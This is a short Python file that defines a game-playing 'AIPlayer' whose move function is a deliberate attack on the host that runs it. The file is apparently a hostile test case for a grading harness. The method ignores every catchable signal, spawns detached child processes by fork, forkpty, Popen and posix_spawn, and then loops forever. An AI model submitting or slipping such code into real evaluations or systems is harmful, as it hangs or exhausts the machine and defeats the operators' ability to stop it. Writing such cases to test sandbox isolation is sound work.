"""Forks whatever it can, in every way there is, and thinks on for ever."""

import os
import signal
import subprocess


class AIPlayer:
    def __init__(self, player_number, time):
        self.player_number = player_number

    def get_intelligent_move(self, state):
        for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        ways = (
            os.fork,
            os.forkpty,
            lambda: subprocess.Popen(["/bin/sleep", "3600"], start_new_session=True),
            lambda: os.posix_spawn("/bin/sleep", ["sleep", "3600"], {}),
        )
        for way in ways:
            try:
                way()
            except OSError:
                pass
        while True:
            pass
